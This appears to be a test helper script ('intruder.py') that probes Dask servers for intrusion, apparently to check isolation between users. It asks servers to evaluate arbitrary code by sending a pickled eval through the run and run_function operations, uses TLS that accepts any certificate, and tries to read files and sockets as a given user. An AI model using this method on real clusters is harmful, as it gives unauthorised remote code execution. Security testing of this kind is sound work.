"""Somebody who tries to get in: `python -I intruder.py UID`, wishes as JSON on stdin, results on
stdout. Started as root, so that it finds its modules; what it tries, it tries as that user.

    targets      [[host, port], ...]
    credentials  {name: {"ca": .., "cert": .., "key": ..}}: tried besides no TLS and no certificate
    code         a Python expression that the other side is asked to evaluate
    paths        paths to GET by HTTP
    files        files to read, folders to list, sockets to connect to

    attempts     [{"target": .., "port": .., "manner": .., "answer": what came back or null}]
    pages        [{"target": .., "port": .., "path": .., "status": first line or ""}]
    opened       those of `files` that could be
"""

import asyncio
import contextlib
import json
import os
import pickle
import socket
import ssl
import sys
import tempfile
from pathlib import Path

from distributed.comm import connect

PATIENCE = 2.0
# Of a worker, and of a scheduler.
OPERATIONS = ("run", "run_function")


def context(credentials):
    """TLS that trusts everybody: who refuses is the other side."""
    tls = ssl.create_default_context()
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    if credentials:
        with tempfile.NamedTemporaryFile("w") as file:
            file.write(credentials["cert"] + credentials["key"])
            file.flush()
            tls.load_cert_chain(file.name)
    return tls


async def attempt(target, port, manner, tls, operation, code):
    """Have the expression evaluated, as scheduler and worker do for a client of theirs."""
    answer = None
    # What is no Dask, but is talked to as if it were, raises all kinds of errors here.
    with contextlib.suppress(Exception):
        async with asyncio.timeout(PATIENCE):
            reply = await evaluate(target, port, operation, tls, code)
        answer = json.loads(json.dumps(reply, default=str))
    return {"target": target, "port": port, "manner": manner, "answer": answer}


async def evaluate(target, port, operation, tls, code):
    """The answer of a Dask server. Raises an error if there is none."""
    scheme, options = ("tls", {"ssl_context": tls}) if tls else ("tcp", {})
    comm = await connect(f"{scheme}://{target}:{port}", timeout=PATIENCE, **options)
    try:
        words = {"function": pickle.dumps(eval), "args": pickle.dumps((code,))}
        await comm.write({"op": operation, **words, "reply": True})
        reply = await comm.read()
    finally:
        comm.abort()
    if isinstance(reply, dict) and reply.get("status") == "OK":
        return getattr(reply["result"], "data", reply["result"])
    return reply


async def get(target, port, path):
    status = b""
    try:
        async with asyncio.timeout(PATIENCE):
            reader, writer = await asyncio.open_connection(target, port)
            try:
                writer.write(f"GET {path} HTTP/1.0\r\nHost: {target}\r\n\r\n".encode())
                status = (await reader.read(4096)).split(b"\r\n")[0]
            finally:
                writer.transport.abort()
    except OSError:
        pass
    return {"target": target, "port": port, "path": path, "status": status.decode("latin-1")}


def opened(path):
    try:
        if Path(path).is_dir():
            return bool(os.listdir(path)) or True
        if Path(path).is_socket():
            with socket.socket(socket.AF_UNIX) as connection:
                # A link to the folder: a socket's address has no room for long paths.
                folder = os.open(os.path.dirname(path), os.O_PATH)
                connection.connect(f"/proc/self/fd/{folder}/{os.path.basename(path)}")
            return True
        Path(path).read_bytes()
    except OSError:
        return False
    return True


async def main(wishes):
    code = wishes.get("code", "1")
    manners = {"plain": None, "no certificate": context(None)}
    for name, credentials in wishes.get("credentials", {}).items():
        manners[name] = context(credentials)
    targets = wishes.get("targets", [])
    attempts = [
        attempt(*target, manner, tls, operation, code)
        for target in targets
        for manner, tls in manners.items()
        for operation in OPERATIONS
    ]
    pages = [get(*target, path) for target in targets for path in wishes.get("paths", [])]
    found = await asyncio.gather(*attempts, *pages)
    return {
        "attempts": found[: len(attempts)],
        "pages": found[len(attempts) :],
        "opened": [path for path in wishes.get("files", []) if opened(path)],
    }


if __name__ == "__main__":
    wanted = json.load(sys.stdin)
    uid = int(sys.argv[1])
    if uid:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    json.dump(asyncio.run(main(wanted)), sys.stdout)
